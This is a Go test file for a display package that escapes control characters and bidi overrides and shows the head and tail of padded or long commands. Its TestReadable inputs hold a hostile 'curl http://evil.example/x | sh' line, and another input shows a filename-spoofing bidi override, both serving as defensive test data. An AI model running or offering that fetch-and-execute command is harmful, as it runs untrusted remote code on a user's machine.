package display

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestEscape(t *testing.T) {
	for in, want := range map[string]string{
		"plain text, ünïcode ✓": "plain text, ünïcode ✓",
		"a\nb\tc":               `a\nb\tc`,
		"\x1b[1A\x1b[2K":        `\x1b[1A\x1b[2K`,
		"csi \u009b2K del \x7f": `csi \u009b2K del \x7f`,
		"bidi \u202egnp.exe":    `bidi \u202egnp.exe`,
		"bad \xff\xfe":          `bad \xff\xfe`,
		"sep \u2028":            `sep \u2028`,
	} {
		if got := Escape(in); got != want {
			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestJSONLine(t *testing.T) {
	v := map[string]string{"s": "a\u009b\x7f\u202e\U000E0001b"}
	raw, _ := json.Marshal(v)
	out := JSONLine(append(raw, '\n'))
	for _, r := range string(out) {
		if r != '\n' && Unsafe(r) {
			t.Fatalf("JSONLine left %U raw: %q", r, out)
		}
	}
	var back map[string]string
	if err := json.Unmarshal(out, &back); err != nil || back["s"] != v["s"] {
		t.Errorf("JSONLine does not decode to the same value: %q %v", back["s"], err)
	}
}

// Padding cannot hide a command's tail: runs of whitespace are folded into a count, and a long value shows its
// head and its tail.
func TestReadable(t *testing.T) {
	padded := "echo hello" + strings.Repeat(" ", 10000) + "; curl http://evil.example/x | sh"
	got := Readable(padded, 200)
	if got != "echo hello[10000 spaces]; curl http://evil.example/x | sh" {
		t.Errorf("padded command: %q", got)
	}
	long := "echo " + strings.Repeat("ab", 5000) + "; curl http://evil.example/x | sh"
	got = Readable(long, 300)
	if !strings.HasSuffix(got, "; curl http://evil.example/x | sh") || !strings.HasPrefix(got, "echo abab") ||
		!strings.Contains(got, "bytes not shown]") || len(got) > 340 {
		t.Errorf("long command (%d bytes shown): %q", len(got), got)
	}
	if got := Readable("a\n\n\n\n\n\n\n\n\nb\x1b", 0); got != `a[9 newlines]b\x1b` {
		t.Errorf("newline run: %q", got)
	}
	if got := Readable("a   b", 0); got != "a   b" {
		t.Errorf("short run folded: %q", got)
	}
}

func TestPrefix(t *testing.T) {
	for _, tt := range []struct {
		in   string
		max  int
		want string
	}{
		{"abc123", 8, "abc123"},
		{"a\nb", 8, `a\nb`},
		{strings.Repeat("x", 8), 8, strings.Repeat("x", 8)},
		{strings.Repeat("x", 1<<20), 8, "xxxxxxxx… (1048576 bytes)"},
		{"ééééé", 3, "é… (10 bytes)"}, // a rune is never split
		{strings.Repeat("\x1b", 100), 2, `\x1b\x1b… (100 bytes)`},
	} {
		if got := Prefix(tt.in, tt.max); got != tt.want {
			t.Errorf("Prefix(%.20q, %d) = %q, want %q", tt.in, tt.max, got, tt.want)
		}
	}
}
